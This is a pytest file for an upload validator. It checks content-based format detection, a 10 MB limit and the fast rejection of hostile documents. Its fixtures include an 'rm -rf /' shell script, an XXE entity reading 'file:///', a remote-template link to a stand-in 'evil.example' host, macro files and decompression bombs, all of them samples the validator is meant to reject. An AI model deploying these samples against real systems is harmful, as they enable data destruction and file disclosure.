"""Documents of the seven formats, by content and not by name; at most 10 MB; hostile files refused cheaply."""

import time

import pytest

from service.documents import LARGEST_BYTES, checked_bytes
from service.errors import ServiceError
from tests.service.transactions import files
from tests.service.transactions.files import GOOD, SHEET, WORD

ZEROS = b"0" * (30 * 1024 * 1024)
EXTERNAL = (
    b'<Relationships><Relationship Id="1" Type="http://schemas.example/attachedTemplate" '
    b'Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
)
LINK = EXTERNAL.replace(b"attachedTemplate", b"hyperlink")


def refusal(content: bytes, name: str = "proof.pdf") -> tuple[int, str]:
    with pytest.raises(ServiceError) as caught:
        checked_bytes(content, name)
    return caught.value.status, caught.value.code


@pytest.mark.parametrize("kind", GOOD)
def test_a_document_is_known_by_its_content_whatever_its_name(kind: str) -> None:
    found = checked_bytes(GOOD[kind], "invoice.exe")
    assert found.kind == kind
    assert found.size == len(GOOD[kind])
    assert len(found.sha256) == 64
    assert found.file_name == {"JPEG": "invoice.jpg"}.get(kind, f"invoice.{kind.lower()}")


@pytest.mark.parametrize(
    "content",
    [
        b"MZ\x90\x00program",
        b"GIF89a\x01\x00\x01\x00\x80\x00",
        b"<html><script>alert(1)</script></html>",
        b"<?xml version='1.0'?><svg/>",
        b"#!/bin/sh\nrm -rf /\n",
        b"a,b\n1,\x00\n",
        b"a,b\x1b[2J\n",
        b"%PDF-1.7 without a trailer",
        b"\x89PNG\r\n\x1a\nnothing",
        b"\xff\xd8\xff\xe0 no frame",
        files.archive({"readme.txt": b"hello"}),
        files.office("application/vnd.ms-powerpoint"),
        files.ole2("WordDocument"),
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1short",
        b" \n ",
    ],
)
def test_any_other_format_is_415_even_under_a_good_name(content: bytes) -> None:
    assert refusal(content, "invoice.pdf") == (415, "unsupported_media_type")


def test_at_most_10_megabytes() -> None:
    largest = files.CSV + b"x" * (LARGEST_BYTES - len(files.CSV))
    assert checked_bytes(largest, "big.csv").size == LARGEST_BYTES == 10 * 1024 * 1024
    assert refusal(largest + b"x") == (413, "file_too_large")


def test_an_empty_file_is_422() -> None:
    assert refusal(b"") == (422, "validation_failed")


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(files.office(SHEET, {"xl/sheet.xml": ZEROS}), id="one part that unfolds"),
        pytest.param(files.office(SHEET, {f"xl/{n}.xml": b"<a/>" for n in range(2001)}), id="very many parts"),
        pytest.param(files.office(WORD, {"word/vbaProject.bin": b"x"}), id="macros"),
        pytest.param(files.office(WORD, declared="macroEnabled"), id="declared macros"),
        pytest.param(
            files.office(
                WORD, {"word/x.xml": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///">]><a/>'}
            ),
            id="external entity",
        ),
        pytest.param(files.office(WORD, {"word/x.xml": "<?xml?><!DOCTYPE a>".encode("utf-16")}), id="hidden encoding"),
        pytest.param(files.office(WORD, {"word/x.xml": b" " * 5000 + b"<!DOCTYPE a><a/>"}), id="late beginning"),
        pytest.param(files.office(WORD, {"word/_rels/settings.xml.rels": EXTERNAL}), id="remote template"),
        pytest.param(files.office(WORD)[:-30], id="cut off"),
        pytest.param(files.png_of(60_000, 60_000), id="large png"),
        pytest.param(files.png_of(20_000, 20_000), id="400 million pixels"),
        pytest.param(files.png_of(0, 10), id="no width"),
        pytest.param(files.jpeg_of(65_000, 65_000), id="large jpeg"),
        pytest.param(files.ole2("Workbook", "_VBA_PROJECT_CUR"), id="xls macros"),
        pytest.param(files.ole2("EncryptedPackage"), id="encrypted"),
    ],
)
def test_hostile_files_are_refused_cheaply(content: bytes) -> None:
    before = time.process_time()
    assert refusal(content) == (422, "validation_failed")
    assert time.process_time() - before < 0.5


def test_a_directory_that_chains_in_circles_ends() -> None:
    circle = bytearray(files.ole2("Workbook"))
    circle[512 + 8 : 512 + 12] = (1).to_bytes(4, "little")  # sector 2 leads back to sector 1
    assert refusal(bytes(circle)) == (422, "validation_failed")


def test_an_ordinary_link_in_a_document_is_no_harm() -> None:
    assert checked_bytes(files.office(WORD, {"word/_rels/document.xml.rels": LINK}), "a").kind == "DOCX"


@pytest.mark.parametrize("kind", GOOD)
def test_a_cut_off_file_never_breaks_the_check(kind: str) -> None:
    whole = GOOD[kind]
    answers = {_verdict(whole[:length]) for length in range(1, len(whole), max(1, len(whole) // 60))}
    assert answers <= {200, 415, 422}


def _verdict(content: bytes) -> int:
    try:
        checked_bytes(content, "x")
    except ServiceError as refused:
        return refused.status
    return 200
